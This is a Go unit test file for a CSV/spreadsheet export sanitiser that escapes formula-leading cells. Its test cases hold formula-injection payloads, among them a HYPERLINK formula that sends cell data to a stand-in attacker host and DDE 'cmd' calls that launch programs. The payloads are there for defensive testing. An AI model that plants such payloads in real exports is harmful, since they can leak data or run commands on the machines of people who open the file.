package export

import (
	"slices"
	"testing"
)

func TestCellNeutralisesFormulas(t *testing.T) {
	cases := map[string]string{
		`=HYPERLINK("http://evil.example/?"&A1,"Click")`: `'=HYPERLINK("http://evil.example/?"&A1,"Click")`,
		`=cmd|' /C calc'!A0`:                             `'=cmd|' /C calc'!A0`,
		`+1+cmd|' /C calc'!A0`:                           `'+1+cmd|' /C calc'!A0`,
		`-2+3+cmd|' /C calc'!A0`:                         `'-2+3+cmd|' /C calc'!A0`,
		`@SUM(1+1)*cmd|' /C calc'!A0`:                    `'@SUM(1+1)*cmd|' /C calc'!A0`,
		"\t=1+1":                                         "'\t=1+1",
		"\r=1+1":                                         "'\r=1+1",
		"+49 30 1234567":                                 "'+49 30 1234567",
		"-":                                              "'-",
		// Unchanged: ordinary text, empty cells and plain numbers.
		"Bäckerei Müller GmbH": "Bäckerei Müller GmbH",
		"":                     "",
		"42":                   "42",
		"-12":                  "-12",
		"-3,50":                "-3,50",
		"-0.75":                "-0.75",
		"a=b":                  "a=b",
		"DE10000001":           "DE10000001",
	}
	for in, want := range cases {
		if got := Cell(in); got != want {
			t.Errorf("Cell(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestRowLeavesItsInputAlone(t *testing.T) {
	in := []string{"1", "=1+1", "x"}
	got := Row(in)
	if !slices.Equal(got, []string{"1", "'=1+1", "x"}) || in[1] != "=1+1" {
		t.Fatalf("Row(%q) = %q", in, got)
	}
}

func TestPlainUndoesCell(t *testing.T) {
	for _, s := range []string{"+41 44 123 45 67", "=HYPERLINK(1)", "@SUM(A1)", "-3,50", "'quoted", "plain", "", "'"} {
		if got := Plain(Cell(s)); got != s {
			t.Errorf("Plain(Cell(%q)) = %q", s, got)
		}
	}
}
